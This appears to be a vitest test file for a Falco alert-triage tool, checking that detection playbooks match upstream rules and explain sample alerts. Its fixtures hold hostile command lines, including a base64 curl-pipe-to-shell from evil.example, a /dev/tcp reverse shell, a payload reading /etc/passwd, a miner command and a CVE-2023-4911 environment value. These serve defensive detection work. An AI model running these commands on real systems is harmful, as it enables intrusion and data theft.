import { describe, it, expect } from 'vitest';
import { playbookProse } from '../../../testing/playbookProse';
import { readFileSync } from 'node:fs';
import { VENDORED_RULES_DIR, VENDORED_RULES_INDEX } from '../../../testing/vendored';
import { parse } from 'yaml';
import type { Alert, OutputFields } from '../../../model';
import type { Playbook } from '../../types';
import { PLAYBOOKS } from './index';
import { catalogEntry } from '../../ruleCatalog';
import { ttyDevice, eventGeneratorMatch } from './common';
import { decodeInlineBase64, formatDuration } from './drift';
import { riskyCapabilities, sensitiveMounts } from './escape';
import { stratumPools, isPrivateAddress } from './miners-creds';
import { noteText } from '../../observation';

/** The 38 syscall rules assigned to this folder. */
const ASSIGNED = [
  'BPF Program Not Profiled',
  'Backdoored library loaded into SSHD (CVE-2024-3094)',
  'Basic Interactive Reconnaissance',
  'Change namespace privileges via unshare',
  'Change thread namespace',
  'Container Run as Root User',
  'DB program spawned process',
  'Debugfs Launched in Privileged Container',
  'Decoding Payload in Container',
  'Detect crypto miners using the Stratum protocol',
  'Detect release_agent File Container Escapes',
  'Drop and execute new binary in container',
  'Execution from /dev/shm',
  'Fileless execution via memfd_create',
  'Find AWS Credentials',
  'Java Process Class File Download',
  'Known Cryptominer Process Executed',
  'Kubernetes Client Tool Launched in Container',
  'Launch Disallowed Container',
  'Launch Excessively Capable Container',
  'Launch Package Management Process in Container',
  'Launch Privileged Container',
  'Launch Sensitive Mount Container',
  'Linux Kernel Module Injection Detected',
  'Non sudo setuid',
  'PTRACE anti-debug attempt',
  'PTRACE attached to process',
  'Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)',
  'Potential Local Privilege Escalation via Environment Variables Misuse',
  'Program run with disallowed http proxy env',
  'Run shell untrusted',
  'Set Setuid or Setgid bit',
  'System user interactive',
  'Terminal shell in container',
  'Unprivileged Delegation of Page Faults Handling to a Userspace Process',
  'User mgmt binaries',
  'Web Server Spawned Shell',
  'Web Server Spawned Suspicious Child Process',
];

function byRule(rule: string): Playbook {
  const found = PLAYBOOKS.find((p) => p.rules.includes(rule));
  if (!found) throw new Error(`no playbook for ${rule}`);
  return found;
}

function alertOf(rule: string, fields: OutputFields, extra: Partial<Alert> = {}): Alert {
  return {
    id: 0,
    file: 'test.ndjson',
    line: 1,
    rule,
    priority: 'Notice',
    time: '2024-05-07T18:54:27.767673017Z',
    timeMs: Date.parse('2024-05-07T18:54:27.767Z'),
    output: '',
    outputFields: fields,
    source: 'syscall',
    sourceInferred: false,
    tags: [],
    ...extra,
  };
}

function observe(rule: string, fields: OutputFields): string[] {
  const fn = byRule(rule).observe;
  if (!fn) throw new Error(`${rule} has no observe`);
  return fn(alertOf(rule, fields)).map(noteText);
}


describe('process and container playbooks: coverage and shape', () => {
  it('has exactly one playbook per assigned rule', () => {
    for (const rule of ASSIGNED) {
      expect(PLAYBOOKS.filter((p) => p.rules.includes(rule)), rule).toHaveLength(1);
    }
    expect(PLAYBOOKS).toHaveLength(ASSIGNED.length);
  });

  it('uses unique kebab-case ids prefixed with the family', () => {
    const ids = PLAYBOOKS.map((p) => p.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const p of PLAYBOOKS) {
      expect(p.id).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*$/);
      expect(['process', 'container']).toContain(p.family);
      expect(p.id.startsWith(`${p.family}-`), p.id).toBe(true);
      expect(p.title).toBe(p.rules[0]);
    }
  });

  it('fills every section within the expected sizes', () => {
    for (const p of PLAYBOOKS) {
      expect(p.benignCauses.length, p.id).toBeGreaterThanOrEqual(2);
      expect(p.benignCauses.length, p.id).toBeLessThanOrEqual(4);
      expect(p.distinguish.length, p.id).toBeGreaterThanOrEqual(2);
      for (const list of [p.mitigations.immediate, p.mitigations.shortTerm, p.mitigations.longTerm]) {
        expect(list.length, p.id).toBeGreaterThanOrEqual(1);
        expect(list.length, p.id).toBeLessThanOrEqual(3);
      }
      expect(p.investigate.length, p.id).toBeGreaterThanOrEqual(2);
      expect(p.investigate.length, p.id).toBeLessThanOrEqual(5);
      expect(p.tuningFields.length, p.id).toBeGreaterThanOrEqual(1);
      expect(p.tuningFields.length, p.id).toBeLessThanOrEqual(3);
    }
  });

  it('writes plain prose and no falco command lines', () => {
    for (const p of PLAYBOOKS) {
      for (const text of playbookProse(p)) {
        expect(text, p.id).not.toMatch(/`|\*\*|^#/);
      }
      for (const c of p.investigate) {
        expect(c.command, p.id).not.toMatch(/(^|\s|\|)falco(\s|$)/);
        // Placeholders only where a whole word or a concatenated piece goes: never inside quotes.
        for (const quoted of c.command.match(/'[^']*'|"[^"]*"/g) ?? []) {
          expect(quoted, `${p.id}: ${c.command}`).not.toMatch(/\{[a-z][\w.[\]]*\}/);
        }
      }
    }
  });
});

// ---------------------------------------------------------------- checks against the upstream rules (vendored)

/** Fields Falco adds to syscall alerts (container and Kubernetes decoration), usable in commands. */
const DECORATION = new Set(['container.id', 'k8s.ns.name', 'k8s.pod.name']);

describe('process and container playbooks: consistency with the upstream rules', () => {
  const index = JSON.parse(readFileSync(VENDORED_RULES_INDEX, 'utf8')) as Array<{ rule: string; output: string }>;
  const printed = (rule: string): Set<string> => {
    const entry = index.find((r) => r.rule === rule);
    if (!entry) throw new Error(`rule not in index: ${rule}`);
    return new Set([...entry.output.matchAll(/%([a-z][\w.]*(?:\[[^\]]*\])?)/g)].map((m) => m[1] ?? ''));
  };

  it('tunes only on fields the rule prints', () => {
    for (const p of PLAYBOOKS) {
      const fields = printed(p.rules[0] ?? '');
      for (const f of p.tuningFields) expect(fields.has(f), `${p.id}: ${f}`).toBe(true);
    }
  });

  it('uses placeholders only for printed or decoration fields', () => {
    for (const p of PLAYBOOKS) {
      const fields = printed(p.rules[0] ?? '');
      for (const c of p.investigate) {
        for (const m of c.command.matchAll(/\{([a-z][\w.[\]]*)\}/g)) {
          const f = m[1] ?? '';
          expect(fields.has(f) || DECORATION.has(f), `${p.id}: ${f} in ${c.command}`).toBe(true);
        }
      }
    }
  });

  it('names allow-lists that exist upstream and that the rule condition reaches', () => {
    const items: Array<Record<string, unknown>> = [];
    for (const f of ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml']) {
      items.push(...(parse(readFileSync(`${VENDORED_RULES_DIR}${f}`, 'utf8')) as Array<Record<string, unknown>>));
    }
    const macros = new Map(items.filter((i) => 'macro' in i).map((i) => [String(i.macro), String(i.condition)]));
    const lists = new Set(items.filter((i) => 'list' in i).map((i) => String(i.list)));
    const reached = (condition: string, seen = new Set<string>()): string => {
      let text = condition;
      for (const word of condition.match(/[A-Za-z_][\w]*/g) ?? []) {
        const body = macros.get(word);
        if (body !== undefined && !seen.has(word)) {
          seen.add(word);
          text += ` ${reached(body, seen)}`;
        }
      }
      return text;
    };
    for (const p of PLAYBOOKS) {
      if (!p.allowList) continue;
      expect(lists.has(p.allowList.list), p.allowList.list).toBe(true);
      const rule = items.find((i) => i.rule === p.rules[0]);
      expect(rule, p.id).toBeDefined();
      expect(reached(String(rule?.condition)).split(/[^\w]+/), p.id).toContain(p.allowList.list);
    }
  });

  it('names allow-lists that the rule catalog lists among the lists the rule consults', () => {
    for (const p of PLAYBOOKS) {
      if (p.allowList) expect(catalogEntry(p.rules[0] ?? '')?.lists, p.id).toContain(p.allowList.list);
    }
  });

  it('matches the ptrace requests of the upstream macro', () => {
    const text = readFileSync(`${VENDORED_RULES_DIR}falco_rules.yaml`, 'utf8');
    const macro = /- macro: ptrace_attach_or_injection\n\s+condition: >?\s*([\s\S]*?)\n-/.exec(text)?.[1] ?? '';
    const requests = [...macro.matchAll(/PTRACE_[A-Z]+/g)].map((m) => m[0]).sort();
    const detects = byRule('PTRACE attached to process').detects;
    for (const r of requests) expect(detects).toContain(r);
  });
});

// ---------------------------------------------------------------- helpers

describe('helpers', () => {
  it('decodes terminal device numbers', () => {
    expect(ttyDevice('34816')).toBe('/dev/pts/0');
    expect(ttyDevice('34817')).toBe('/dev/pts/1');
    expect(ttyDevice('1025')).toBe('/dev/tty1');
    expect(ttyDevice('0')).toBeUndefined();
    expect(ttyDevice('proc.tty')).toBeUndefined();
  });

  it('recognises event-generator in names, paths and helper command lines when they corroborate', () => {
    const a = alertOf('x', {
      'proc.pname': 'httpd',
      'proc.pexepath': '/bin/event-generator',
      'proc.pcmdline': 'httpd --loglevel info run ^helper.RunShell$',
      'container.name': 'falco-event-generator-1',
    });
    expect(eventGeneratorMatch(a)).toEqual({ field: 'proc.pexepath', value: '/bin/event-generator' });
    const b = alertOf('x', { 'proc.pcmdline': 'httpd --loglevel info run ^helper.RunShell$', 'container.name': 'falco-event-generator-1' });
    expect(eventGeneratorMatch(b)?.field).toBe('proc.pcmdline');
    expect(eventGeneratorMatch(alertOf('x', { 'proc.name': 'nginx', 'proc.pname': 'bash' }))).toBeUndefined();
    // One piece of evidence is not enough, nor is what a process chooses itself (path, command line).
    expect(eventGeneratorMatch(alertOf('x', { 'proc.pname': 'httpd', 'proc.pexepath': '/bin/event-generator' }))).toBeUndefined();
    expect(
      eventGeneratorMatch(alertOf('x', { 'proc.pexepath': '/bin/event-generator', 'proc.pcmdline': 'httpd --loglevel info run ^helper.RunShell$' })),
    ).toBeUndefined();
  });

  it('decodes inline base64 payloads and ignores paths', () => {
    expect(decodeInlineBase64('sh -c echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | sh')).toBe(
      'curl http://evil.example/x | sh',
    );
    expect(decodeInlineBase64('base64 -d /usr/local/share/certificates/server.b64')).toBeUndefined();
  });

  it('formats durations, finds pools, capabilities, mounts and private ranges', () => {
    expect(formatDuration(3)).toBe('3 s');
    expect(formatDuration(600)).toBe('10 min');
    expect(stratumPools('xmrig -o stratum+tcp://pool.example:3333 -u wallet')).toEqual(['stratum+tcp://pool.example:3333']);
    expect(riskyCapabilities('CAP_CHOWN CAP_NET_ADMIN CAP_SYS_PTRACE')).toEqual(['CAP_SYS_PTRACE', 'CAP_NET_ADMIN']);
    const mounts = sensitiveMounts('/var/run/docker.sock:/var/run/docker.sock::true:rprivate,/data:/data::true:rprivate');
    expect(mounts).toHaveLength(1);
    expect(mounts[0]?.writable).toBe(true);
    expect(isPrivateAddress('10.1.2.3')).toBe(true);
    expect(isPrivateAddress('172.32.0.1')).toBe(false);
    expect(isPrivateAddress('8.8.8.8')).toBe(false);
  });
});

// ---------------------------------------------------------------- observe on realistic alerts

describe('PTRACE attached to process: observe', () => {
  const rule = 'PTRACE attached to process';

  it('says the request is not in the default output and lists what else the rule matches', () => {
    const notes = observe(rule, {
      'evt.type': 'ptrace',
      'proc.name': 'gdb',
      'proc.exepath': '/usr/bin/gdb',
      'proc.pname': 'bash',
      'proc.cmdline': 'gdb -p 4242',
      'proc.tty': 34816,
      'user.name': 'alice',
      'user.loginuid': 1000,
    });
    const text = notes.join('\n');
    expect(text).toContain('says PTRACE_ATTACH');
    for (const r of ['PTRACE_SEIZE', 'PTRACE_POKETEXT', 'PTRACE_POKEDATA', 'PTRACE_SETREGS']) expect(text).toContain(r);
    expect(text).toContain('not in this alert');
    expect(text).toContain('debugger');
    expect(text).toContain('/dev/pts/0');
  });

  it('names the request when evt.arg.request is present', () => {
    const notes = observe(rule, { 'proc.name': 'x', 'evt.arg.request': 'PTRACE_POKETEXT', 'proc.tty': 0 });
    expect(notes.join('\n')).toContain('evt.arg.request=PTRACE_POKETEXT');
    expect(notes.join('\n')).toContain('injection');
    expect(notes.join('\n')).not.toContain('says PTRACE_ATTACH');
  });

  it('explains event-generator as a drill on a child it started, never as attaching to itself', () => {
    const notes = observe(rule, {
      'evt.type': 'ptrace',
      'container.image.repository': 'docker.io/falcosecurity/event-generator',
      'proc.name': 'event-generator',
      'proc.exepath': '/bin/event-generator',
      'proc.pname': 'containerd-shim',
      'proc.cmdline': 'event-generator run syscall.PtraceAttachedToProcess',
      'proc.tty': 0,
      'user.loginuid': -1,
    });
    const text = notes.join('\n');
    expect(text).toContain("falcosecurity's event-generator");
    expect(text).toContain('child process');
    expect(text).toContain('drill');
    expect(text).not.toMatch(/attache[sd]? to itself|its own process/);
  });

  it('stays sensible on malformed output_fields that echo field names', () => {
    const notes = observe(rule, {
      'proc.name': 'proc.name',
      'proc.tty': 'proc.tty',
      'user.loginuid': 'user.loginuid',
      'proc.exepath': 'proc.exepath',
    });
    const text = notes.join('\n');
    expect(text).not.toContain('proc.tty=proc.tty');
    expect(text).not.toContain('user.loginuid=user.loginuid');
    expect(text).toContain('not in this alert');
  });
});

describe('Terminal shell in container: observe', () => {
  const rule = 'Terminal shell in container';

  it('reads runc as an exec session with a real terminal', () => {
    const notes = observe(rule, {
      'container.id': 'f29b261f8831',
      'container.image.repository': 'mysql',
      'k8s.ns.name': 'default',
      'k8s.pod.name': 'alpine',
      'proc.cmdline': 'bash -il',
      'proc.name': 'bash',
      'proc.pname': 'runc',
      'proc.tty': 34816,
      'user.loginuid': -1,
      'user.name': 'root',
    });
    const text = notes.join('\n');
    expect(text).toContain('kubectl exec');
    expect(text).toContain('docker exec');
    expect(text).toContain('/dev/pts/0');
    expect(text).toContain('interactive');
    expect(text).toContain('pods/exec');
    expect(text).toContain('open interactive prompt');
  });

  it('does not guess when the parent is missing', () => {
    const notes = observe(rule, {
      'container.id': 'a98c2aa8e670',
      'k8s.pod.name': 'falco-74htl',
      'proc.cmdline': 'bash ',
      'proc.name': 'bash',
      'proc.pname': null,
      'proc.tty': 34816,
      'user.name': 'root',
    });
    const text = notes.join('\n');
    expect(text).toContain('proc.pname is empty');
    expect(text).not.toContain('proc.pname=');
  });

  it('notices a command passed with -c', () => {
    const notes = observe(rule, { 'proc.cmdline': 'sh -c clear; (bash || ash || sh)', 'proc.pname': 'runc', 'proc.tty': 34816 });
    expect(notes.join('\n')).toContain('passed with -c');
  });
});

describe('Run shell untrusted: observe', () => {
  const rule = 'Run shell untrusted';

  it('recognises the event-generator drill behind a fake httpd', () => {
    const notes = observe(rule, {
      'container.id': '84c0b936c919',
      'container.name': 'elastic-package-service-falco-event-generator-1',
      'proc.aname[2]': 'event-generator',
      'proc.aname[3]': 'containerd-shim',
      'proc.cmdline': 'bash -c ls > /dev/null',
      'proc.exepath': '/bin/bash',
      'proc.name': 'bash',
      'proc.pcmdline': 'httpd --loglevel info run ^helper.RunShell$',
      'proc.pexe': '/tmp/falco-event-generator2286495765/httpd',
      'proc.pexepath': '/bin/event-generator',
      'proc.pname': 'httpd',
      'proc.tty': 0,
      'user.loginuid': -1,
      'user.name': 'root',
    });
    const text = notes.join('\n');
    expect(text).toContain("falcosecurity's event-generator");
    expect(text).toContain('drill');
    expect(text).toContain('proc.pname=httpd but proc.pexepath=/bin/event-generator');
    expect(text).toContain('proc.tty=0');
  });

  it('flags a web server parent and reverse-shell syntax', () => {
    const notes = observe(rule, {
      'container.id': 'host',
      'proc.name': 'sh',
      'proc.pname': 'nginx',
      'proc.pexepath': '/usr/sbin/nginx',
      'proc.cmdline': 'sh -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
      'proc.tty': 0,
    });
    const text = notes.join('\n');
    expect(text).toContain('web server');
    expect(text).toContain('/dev/tcp');
    expect(text).toContain('container.id=host');
    expect(text).not.toContain('proc.pexepath=/usr/sbin/nginx');
  });

  it('does not call an interpreter-hosted parent an impostor', () => {
    const notes = observe(rule, { 'proc.pname': 'gunicorn', 'proc.pexepath': '/usr/bin/python3.11', 'proc.cmdline': 'sh -c convert a b' });
    expect(notes.join('\n')).not.toContain('renamed');
  });
});

describe('other observe functions', () => {
  it('System user interactive: event-generator and login UID reading', () => {
    const eg = observe('System user interactive', {
      'container.name': 'elastic-package-service-falco-event-generator-1',
      'proc.name': 'login',
      'proc.pname': 'event-generator',
      'proc.exepath': '/bin/busybox',
      'user.name': 'daemon',
      'user.uid': 2,
      'user.loginuid': -1,
      'proc.tty': 0,
    });
    expect(eg.join('\n')).toContain("falcosecurity's event-generator");
    const su = observe('System user interactive', { 'user.name': 'www-data', 'user.uid': 33, 'user.loginuid': 1000 });
    expect(su.join('\n')).toContain('switched to www-data');
  });

  it('Drop and execute: timing from the inode fields', () => {
    const notes = observe('Drop and execute new binary in container', {
      'proc.exepath': '/tmp/.x/kworker',
      'proc.exe_ino.ctime': 1_700_000_600_000_000_000,
      'container.start_ts': 1_700_000_000_000_000_000,
      'proc.exe_ino.ctime_duration_proc_start': 4_000_000_000,
    });
    const text = notes.join('\n');
    expect(text).toContain('written 4 s before it ran');
    expect(text).toContain('10 min after the container started');
    expect(text).toContain('/tmp');
  });

  it('Decoding Payload in Container: shows the decoded text and the pipe to a shell', () => {
    const notes = observe('Decoding Payload in Container', {
      'proc.cmdline': 'sh -c echo aWQ7IHVuYW1lIC1hOyBjYXQgL2V0Yy9wYXNzd2Q= | base64 -d | sh',
    });
    expect(notes.join('\n')).toContain('decodes to: id; uname -a; cat /etc/passwd');
    expect(notes.join('\n')).toContain('piped straight into a shell');
  });

  it('Launch Sensitive Mount Container: names the socket mount', () => {
    const notes = observe('Launch Sensitive Mount Container', {
      'container.mounts': '/var/run/docker.sock:/var/run/docker.sock::true:rprivate',
      'proc.name': 'sleep',
      'proc.cmdline': 'sleep infinity',
    });
    expect(notes.join('\n')).toContain('Docker API socket');
    expect(notes.join('\n')).toContain('read-write');
    expect(notes.join('\n')).toContain('only sleeps');
  });

  it('Launch Excessively Capable Container: explains the capabilities', () => {
    const notes = observe('Launch Excessively Capable Container', { 'thread.cap_permitted': 'CAP_CHOWN CAP_SYS_ADMIN CAP_NET_RAW' });
    expect(notes.join('\n')).toContain('CAP_SYS_ADMIN (mount filesystems');
  });

  it('GLIBC_TUNABLES: tells tuning from an exploit value', () => {
    const benign = observe('Potential Local Privilege Escalation via Environment Variables Misuse', {
      'proc.env': 'PATH=/usr/bin GLIBC_TUNABLES=glibc.malloc.arena_max=2',
      'proc.name': 'java',
    });
    expect(benign.join('\n')).toContain('well-formed');
    const exploit = observe('Potential Local Privilege Escalation via Environment Variables Misuse', {
      'proc.env': `GLIBC_TUNABLES=glibc.tunables=glibc.malloc.mxfast=glibc.malloc.mxfast=${'A'.repeat(300)}`,
      'proc.name': 'su',
    });
    expect(exploit.join('\n')).toContain('CVE-2023-4911');
    expect(exploit.join('\n')).toContain('setuid-root');
  });

  it('Stratum miner: names the pool', () => {
    const notes = observe('Detect crypto miners using the Stratum protocol', {
      'proc.cmdline': './kswapd0 -o stratum+tcp://pool.example.net:3333 -u 4Abc',
      'proc.exepath': '/dev/shm/kswapd0',
    });
    expect(notes.join('\n')).toContain('stratum+tcp://pool.example.net:3333');
    expect(notes.join('\n')).toContain('/dev/shm');
  });

  it('Java class download: flags public servers and JNDI ports', () => {
    const notes = observe('Java Process Class File Download', { 'fd.sip': '203.0.113.9', 'fd.sport': 1389 });
    expect(notes.join('\n')).toContain('public address');
    expect(notes.join('\n')).toContain('JNDI');
  });

  it('User mgmt binaries: flags additions to privileged groups', () => {
    const notes = observe('User mgmt binaries', { 'proc.cmdline': 'usermod -aG sudo,video backup', 'user.loginuid': 1001 });
    expect(notes.join('\n')).toContain('adds an account to sudo');
    expect(notes.join('\n')).toContain('user.loginuid=1001');
  });

  it('BPF Program Not Profiled: runc is container start-up', () => {
    const notes = observe('BPF Program Not Profiled', { 'proc.name': 'runc', 'evt.arg.cmd': 'BPF_PROG_LOAD' });
    expect(notes.join('\n')).toContain('device-filter');
  });

  it('returns nothing when nothing stands out', () => {
    for (const p of PLAYBOOKS) {
      if (!p.observe) continue;
      expect(p.observe(alertOf(p.rules[0] ?? '', {})), p.id).toEqual(p.id === 'container-terminal-shell' || p.id === 'process-ptrace-attach' ? expect.any(Array) : []);
    }
  });
});
